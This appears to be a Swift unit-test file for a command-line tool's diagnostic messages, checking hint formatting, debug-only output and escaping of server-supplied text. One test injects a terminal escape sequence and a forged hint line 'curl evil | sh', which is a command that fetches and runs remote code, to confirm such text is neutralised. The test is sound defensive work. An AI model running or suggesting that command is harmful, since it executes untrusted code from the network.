import CLinux
import Delivery
import Glibc
import Testing

@testable import Console

struct DiagnosticsTests {
  @Test func `a problem and its hint are a line each`() throws {
    let text = try written { $0.report("profile 'x' is missing", hint: "daypass list") }
    #expect(text == "daypass: profile 'x' is missing\ndaypass: hint: daypass list\n")
  }

  @Test func `nothing that is said can move the cursor or start a line`() throws {
    let text = try written { $0.warn("server said \u{1b}[2J\ndaypass: hint: curl evil | sh") }
    #expect(text == "daypass: warning: server said \\u{1b}[2J\\u{a}daypass: hint: curl evil | sh\n")
  }

  @Test(arguments: [(Diagnostics.Verbosity.normal, ""), (.debug, "daypass: debug: asked STS\n")])
  func `steps are told in debug mode only`(verbosity: Diagnostics.Verbosity, expected: String) throws {
    #expect(try written(verbosity) { $0.debug("asked STS") } == expected)
  }

  @Test func `waiting is told at a terminal only`() throws {
    #expect(try written { $0.waiting(for: "another daypass") } == "")
  }

  private func written(
    _ verbosity: Diagnostics.Verbosity = .normal, _ body: (Diagnostics) -> Void
  ) throws -> String {
    var ends: [Int32] = [-1, -1]
    try #require(linux_open_pipe(&ends) == 0)
    defer { for end in ends { close(end) } }
    body(Diagnostics(verbosity: verbosity, output: Output(descriptor: ends[1])))
    var buffer = [UInt8](repeating: 0, count: 4_096)
    let count = read(ends[0], &buffer, buffer.count)
    return String(decoding: buffer.prefix(max(0, count)), as: UTF8.self)
  }
}
